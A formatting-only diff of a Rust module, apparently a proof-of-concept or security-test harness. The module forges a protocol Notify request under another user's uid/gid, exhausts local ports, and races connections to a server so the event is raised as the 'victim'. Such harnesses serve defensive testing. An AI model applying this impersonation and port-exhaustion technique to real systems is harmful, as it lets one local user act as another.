@@ -31,9 +31,22 @@ const PORTS: &str = "/proc/sys/net/ipv4/ip_local_port_range";
 /// The bytes of a tool that raises an event in its first frame.
 fn raising(user: User, name: &str) -> Result<Vec<u8>> {
     let hello = tool(user, name);
-    let notify = Request::Notify { code: FORGED, range: Range::Session, infos: Vec::new() };
+    let notify = Request::Notify {
+        code: FORGED,
+        range: Range::Session,
+        infos: Vec::new(),
+    };
     let payload = Codec::of(&hello, Limits::default()).encode_request(&notify)?;
-    Ok([encoded(&hello), Frame { pindex: 0, tag: Tag(101), payload }.encode()?].concat())
+    Ok([
+        encoded(&hello),
+        Frame {
+            pindex: 0,
+            tag: Tag(101),
+            payload,
+        }
+        .encode()?,
+    ]
+    .concat())
 }
 
 /// Raises the event as the user that this process runs as, by this name, and waits for the answer.
@@ -55,10 +68,18 @@ pub fn raise(server: SocketAddr, name: &str) -> Result<()> {
 
 /// Tries so many times to raise the event as the victim; prints how many connections it made.
 pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
-    let forged = raising(User { uid: victim, gid: victim }, "forged")?;
+    let forged = raising(
+        User {
+            uid: victim,
+            gid: victim,
+        },
+        "forged",
+    )?;
     let (first, last) = port_range()?;
     let free = first..first + FREE_PORTS;
-    let _taken: Vec<OwnedFd> = (free.end..=last).filter_map(|port| bound(port).ok()).collect();
+    let _taken: Vec<OwnedFd> = (free.end..=last)
+        .filter_map(|port| bound(port).ok())
+        .collect();
     let (mut made, start) = (0, Instant::now());
     for (left, delay) in free.clone().cycle().zip(DELAYS.into_iter().cycle()) {
         if made >= tries || start.elapsed() > LONGEST {
@@ -66,7 +87,9 @@ pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
         }
         let ports = free.clone().filter(|port| *port != left);
         // While the victim has a port, others are taken.
-        let claims: Vec<TcpStream> = ports.filter_map(|port| claim(port, server, &forged).ok()).collect();
+        let claims: Vec<TcpStream> = ports
+            .filter_map(|port| claim(port, server, &forged).ok())
+            .collect();
         made += u32::try_from(claims.len())?;
         if delay > 0 {
             thread::sleep(Duration::from_micros(delay));
